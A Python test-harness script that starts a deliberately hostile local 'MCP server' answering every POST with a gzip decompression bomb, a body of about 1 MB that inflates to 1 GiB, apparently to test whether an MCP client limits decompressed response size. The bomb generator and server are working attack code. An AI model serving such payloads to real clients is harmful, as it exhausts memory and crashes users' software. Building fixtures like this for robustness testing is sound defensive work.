"""A hostile remote "MCP server" on 127.0.0.1 that answers with a decompression bomb.

`http_bomb.py PORT [MIB]`: every POST gets 200 application/json with `Content-Encoding:
gzip`, whatever the client asked for; the body is about MIB KiB on the wire and inflates
to MIB MiB (default 1024: a 1 MB body that inflates to 1 GiB) of one JSON string. GET
(the SSE stream a streamable-HTTP client may open) gets 405. Built in a fraction of a
second: one deflate block of a MiB of "A" is cut at a full flush and repeated.
"""

import contextlib
import struct
import sys
import zlib
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MIB = 1024 * 1024


def bomb(mib: int) -> bytes:
    head = b'{"jsonrpc": "2.0", "id": 0, "result": "'
    block = b"A" * MIB
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)  # raw deflate inside a gzip member
    first = deflate.compress(head + block) + deflate.flush(zlib.Z_FULL_FLUSH)
    # After a full flush the same input compresses to the same, self-contained bytes.
    repeat = deflate.compress(block) + deflate.flush(zlib.Z_FULL_FLUSH)
    tail = deflate.flush(zlib.Z_FINISH)
    crc = zlib.crc32(head + block)
    for _ in range(mib - 1):
        crc = zlib.crc32(block, crc)
    size = len(head) + mib * MIB
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"
    trailer = struct.pack("<II", crc & 0xFFFFFFFF, size & 0xFFFFFFFF)
    return header + first + repeat * (mib - 1) + tail + trailer


class Bomb(BaseHTTPRequestHandler):
    body = b""

    def log_message(self, *args: object) -> None:
        pass

    def do_POST(self) -> None:
        self.rfile.read(int(self.headers.get("Content-Length") or 0))
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.send_header("Content-Encoding", "gzip")
        self.send_header("Content-Length", str(len(self.body)))
        self.end_headers()
        with contextlib.suppress(OSError):  # the client stopped reading: that is the point
            self.wfile.write(self.body)

    def do_GET(self) -> None:
        self.send_response(405)
        self.send_header("Content-Length", "0")
        self.end_headers()


if __name__ == "__main__":
    Bomb.body = bomb(int(sys.argv[2]) if len(sys.argv) > 2 else 1024)
    ThreadingHTTPServer(("127.0.0.1", int(sys.argv[1])), Bomb).serve_forever()
